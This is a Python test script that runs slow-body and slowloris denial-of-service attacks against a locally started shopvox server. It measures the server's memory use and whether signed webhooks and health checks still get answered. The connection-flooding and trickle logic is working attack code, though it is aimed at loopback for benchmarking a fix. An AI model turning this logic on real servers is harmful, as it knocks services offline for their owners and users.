#!/usr/bin/python3
"""attack_http.py - the two attacks on shopvox's HTTP side (issue 7), measured.

  bodies     N connections each declare a 1 MiB body and trickle it in,
             --rate-bytes a second each (32 KiB: the whole MiB in 32 s) (--forge: with a well-formed but wrong signature header, so
             the body is admitted and draws on the body budget; --path picks the
             route). Measures the server's RSS (VmRSS and VmHWM from
             /proc/PID/status) and whether a correctly signed webhook sent by a
             well-behaved client every 2 s gets its 200, and how fast.
  slowloris  N connections each send a request line, then one header line every
             10 s. Measures GET /healthz on the ops port once a second
             (latency, failures) and the server's RSS.

Against a loopback shopvox started by the caller (bench/run.sh style):

  bench/attack_http.py bodies --port 8080 --ops-port 9090 --pid PID --secret S
  bench/attack_http.py slowloris --port 8080 --ops-port 9090 --pid PID

Before the ops listener existed, give --ops-port the public port. Python 3
standard library only; one thread, non-blocking sockets.
"""
import argparse
import base64
import hashlib
import hmac
import http.client
import json
import socket
import time

BODY_BYTES = 1 << 20


def rss_kib(pid):
    """(VmRSS, VmHWM) of pid in KiB."""
    got = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, rest = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                got[key] = int(rest.split()[0])
    return got.get("VmRSS", 0), got.get("VmHWM", 0)


def open_conns(port, n, first_bytes, source=None):
    conns = []
    for _ in range(n):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2,
                                         source_address=(source, 0) if source else None)
            s.sendall(first_bytes)
            s.setblocking(False)
            conns.append(s)
        except OSError:
            pass
    return conns


def feed(conns, data):
    """Sends data on every live connection; drops those the server closed."""
    live = []
    for s in conns:
        try:
            try:
                if s.recv(4096) == b"":  # answered and closed, or cut
                    raise OSError
            except BlockingIOError:
                pass
            s.send(data)
            live.append(s)
        except OSError:
            s.close()
    return live


def signed_webhook(port, secret, seq):
    body = json.dumps({"id": str(seq), "note": "well-behaved client"}).encode()
    sig = base64.b64encode(hmac.new(secret.encode(), body, hashlib.sha256).digest()).decode()
    headers = {"Content-Type": "application/json", "X-Shopline-Topic": "carts/update",
               "X-Shopline-Webhook-Id": f"attack-bench-{time.time_ns()}-{seq}",
               "X-Shopline-Hmac-Sha256": sig}
    return timed_request(port, "POST", "/webhooks/shopline", body, headers)


def timed_request(port, method, path, body=None, headers=None):
    """(status or 0, seconds)."""
    start = time.monotonic()
    try:
        c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        c.request(method, path, body=body, headers=headers or {})
        status = c.getresponse().status
        c.close()
    except OSError:
        status = 0
    return status, time.monotonic() - start


def summarize(name, samples):
    ok = [t for s, t in samples if s == 200]
    bad = [s for s, _ in samples if s != 200]
    worst = max((t for _, t in samples), default=0)
    print(f"{name}: {len(ok)}/{len(samples)} answered 200, statuses otherwise {sorted(set(bad))}, "
          f"slowest {worst * 1000:.0f} ms")


def run(args):
    if args.mode == "bodies":
        sig = f"X-Shopline-Hmac-Sha256: {'0' * 64}\r\n" if args.forge else ""
        head = (f"POST {args.path} HTTP/1.1\r\nHost: shopvox\r\n{sig}"
                f"Content-Type: application/json\r\nContent-Length: {BODY_BYTES}\r\n\r\n").encode()
        every_s, chunk = 1.0, b"x" * args.rate_bytes
    else:
        head = b"POST /webhooks/shopline HTTP/1.1\r\nHost: shopvox\r\n"
        every_s, chunk = 10.0, b"X-Slow: 1\r\n"
    base_rss, _ = rss_kib(args.pid)
    conns = open_conns(args.port, args.conns, head, args.attacker_source)
    opened = len(conns)
    probes, webhooks = [], []
    peak_rss = 0
    start = last_feed = time.monotonic()
    seq = 0
    while time.monotonic() - start < args.duration:
        now = time.monotonic()
        if now - last_feed >= every_s:
            conns = feed(conns, chunk)
            last_feed = now
        if len(conns) < args.conns and args.reconnect:
            conns += open_conns(args.port, args.conns - len(conns), head, args.attacker_source)
        if args.mode == "bodies" and seq % 2 == 0:
            webhooks.append(signed_webhook(args.port, args.secret, seq))
        probes.append(timed_request(args.ops_port, "GET", "/healthz"))
        peak_rss = max(peak_rss, rss_kib(args.pid)[0])
        seq += 1
        time.sleep(max(0.0, 1.0 - (time.monotonic() - now)))
    rss, hwm = rss_kib(args.pid)
    print(f"mode={args.mode} forge={args.forge} path={args.path} connections={opened} "
          f"still open at the end={len(conns)} duration={args.duration}s")
    print(f"server RSS: before {base_rss / 1024:.1f} MiB, peak sampled {peak_rss / 1024:.1f} MiB, "
          f"VmHWM {hwm / 1024:.1f} MiB, at the end {rss / 1024:.1f} MiB")
    if webhooks:
        summarize("signed webhooks meanwhile", webhooks)
    summarize("GET /healthz on the ops port meanwhile", probes)
    for s in conns:
        s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("mode", choices=["bodies", "slowloris"])
    p.add_argument("--port", type=int, required=True, help="shopvox's public port")
    p.add_argument("--ops-port", type=int, required=True, help="its ops port (/healthz)")
    p.add_argument("--pid", type=int, required=True, help="shopvox's pid, for its RSS")
    p.add_argument("--conns", type=int, default=1000)
    p.add_argument("--duration", type=int, default=30, help="seconds")
    p.add_argument("--secret", default="bench-secret", help="SHOPLINE_APP_SECRET")
    p.add_argument("--path", default="/webhooks/shopline", help="bodies: the path attacked")
    p.add_argument("--forge", action="store_true",
                   help="bodies: send a well-formed (wrong) signature header")
    p.add_argument("--rate-bytes", type=int, default=32768,
                   help="bodies: bytes sent a second on each connection")
    p.add_argument("--reconnect", action="store_true",
                   help="open a new connection for each one the server closes")
    p.add_argument("--attacker-source", default=None,
                   help="the attack's source address (e.g. 127.0.0.2), so the signed webhooks "
                        "meanwhile come from another client, as Shopline's do")
    run(p.parse_args())


if __name__ == "__main__":
    main()
